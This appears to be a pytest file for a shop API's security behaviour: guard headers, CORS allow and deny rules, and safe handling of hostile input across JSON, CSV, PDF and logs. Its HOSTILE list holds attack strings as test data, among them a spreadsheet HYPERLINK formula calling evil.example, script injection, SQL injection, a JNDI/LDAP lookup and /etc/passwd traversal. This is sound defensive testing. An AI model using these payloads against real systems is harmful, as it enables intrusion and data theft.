"""Headers that guard, pages of other origins, and strings that mean harm."""

import csv
import re
from datetime import UTC, datetime
from io import BytesIO
from typing import Any
from urllib.parse import quote

import boto3
import pytest
from pypdf import PdfReader

from chalicelib.routes import answer
from chalicelib.settings import read_settings, settings
from tests.conftest import Shop

SHOP = "https://shop.example"


@pytest.fixture
def open_to(monkeypatch: pytest.MonkeyPatch) -> None:
    """To pages of one origin."""
    monkeypatch.setattr(answer, "settings", lambda: settings()._replace(cors_origins=frozenset({SHOP})))


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/api/items"),
        ("GET", "/api/items/7"),
        ("POST", "/api/items"),
        ("GET", "/api/docs"),
        ("PUT", "/api/items"),
    ],
)
def test_every_answer_has_the_headers_that_guard_it(shop: Shop, method: str, path: str) -> None:
    headers = shop.call(method, path, b"no json").headers
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Strict-Transport-Security"] == "max-age=31536000"
    assert headers["Referrer-Policy"] == "no-referrer"
    assert "default-src 'none'" in headers["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
    assert "Cache-Control" in headers


def test_what_tells_of_a_customer_or_holds_a_link_is_not_stored_on_the_way(stocked: Shop) -> None:
    stocked.order(1, (1, 1))
    assert stocked.get("/api/customers").headers["Cache-Control"] == "no-store"
    assert stocked.get("/api/customer-purchase/1").headers["Cache-Control"] == "no-store"
    assert stocked.get("/api/customers/1").headers["Cache-Control"] == "private, no-cache"


def test_without_the_setting_no_page_of_another_origin_may_call(shop: Shop) -> None:
    for reply in (shop.get("/api/items", Origin=SHOP), shop.call("OPTIONS", "/api/items", Origin=SHOP)):
        assert not [name for name in reply.headers if name.startswith("Access-Control")]


def test_a_page_of_an_allowed_origin_may_call_with_the_headers_we_use(shop: Shop, open_to: None) -> None:
    asked = {"Origin": SHOP, "Access_Control_Request_Method": "PATCH", "Authorization": ""}
    reply = shop.call("OPTIONS", "/api/items/1", **asked)
    assert (reply.status, reply.text) == (204, "")
    assert reply.headers["Access-Control-Allow-Origin"] == SHOP
    assert "PATCH" in reply.headers["Access-Control-Allow-Methods"]
    for header in ("Authorization", "Content-Type", "Idempotency-Key", "If-Match", "If-None-Match"):
        assert header in reply.headers["Access-Control-Allow-Headers"]
    made = shop.post("/api/items", {"description": "Tea", "price": 1, "quantity": 1}, Origin=SHOP)
    assert (made.headers["Access-Control-Allow-Origin"], made.headers["Vary"]) == (SHOP, "Origin")
    for header in ("ETag", "Link", "Location", "Retry-After", "Idempotent-Replayed"):
        assert header in made.headers["Access-Control-Expose-Headers"]
    assert shop.get("/api/items/9", Origin=SHOP).headers["Access-Control-Allow-Origin"] == SHOP


@pytest.mark.parametrize("origin", ["https://evil.example", "https://shop.example.evil.example", "null", ""])
def test_a_page_of_another_origin_may_not(shop: Shop, open_to: None, origin: str) -> None:
    for method in ("GET", "OPTIONS"):
        reply = shop.call(method, "/api/items", Origin=origin)
        assert "Access-Control-Allow-Origin" not in reply.headers
        assert "Access-Control-Allow-Headers" not in reply.headers
        assert reply.headers["Vary"] == "Origin"


@pytest.mark.parametrize(
    "origins", ["shop.example", "https://shop.example/", "https://*.example", "ftp://shop.example"]
)
def test_an_origin_that_is_none_is_told_at_the_start(origins: str) -> None:
    with pytest.raises(ValueError, match="CORS_ORIGINS must be origins such as"):
        read_settings({"CORS_ORIGINS": f"{SHOP} {origins}"})
    assert read_settings({"CORS_ORIGINS": f"{SHOP} *"}).cors_origins == {SHOP, "*"}


# Each is kept as it is, and does no harm wherever it comes out.
HOSTILE = [
    '=HYPERLINK("http://evil.example","click")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "<script>alert(1)</script>",
    "'; DROP TABLE items; --",
    '"quoted", and more',
    "%s%n{0}${jndi:ldap://evil.example}",
    "../../etc/passwd",
    "שלום\u200f עולם",
    "Z\u0351\u036b\u0343a\u0335l\u0321g\u0322o",
    "𝒯𝑒𝒶 ☕️ 👩‍👩‍👧",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_kept_and_harmless_in_json_csv_pdf_and_log(shop: Shop, text: str, lines: Any) -> None:
    item = shop.new_item(3, description=text)
    body = {"name": text, "phone": "1", "address": text}
    customer = shop.post("/api/customers", body).json["id"]
    told = shop.get(f"/api/items/{item}")
    assert told.json["description"] == shop.get(f"/api/customers/{customer}").json["name"]
    assert told.text.isascii()

    rows = list(csv.reader(shop.get("/api/low-stock-items?format=csv").text.splitlines()))
    assert not re.match(r"[=+\-@\t\r]", rows[1][1])

    shop.order(customer, (item, 1))
    link = shop.get(f"/api/customer-purchase/{customer}").headers["Location"]
    key = link.split("?")[0].split("/", 3)[3]
    pdf = boto3.client("s3").get_object(Bucket=settings().bucket_name, Key=key)
    reader = PdfReader(BytesIO(pdf["Body"].read()))
    assert len(reader.pages) == 1
    assert not reader.attachments
    assert "/JavaScript" not in str(reader.trailer)
    assert "/Annots" not in reader.pages[0]

    shop.get(f"/api/items?text={quote(text)}")
    shop.get(f"/api/items/{quote(text, safe='')}")
    written = lines()
    assert {line.get("route") for line in written} >= {"/api/items", "/api/items/{item}", "/api/customers"}
    assert not [line for line in written if text in map(str, line.values())]


def test_times_of_any_year_are_written_in_full() -> None:
    old = datetime(310, 2, 9, 14, 34, 15, 999, tzinfo=UTC)
    assert answer.json_text([old, old.date()]) == '["0310-02-09T14:34:15Z","0310-02-09"]'
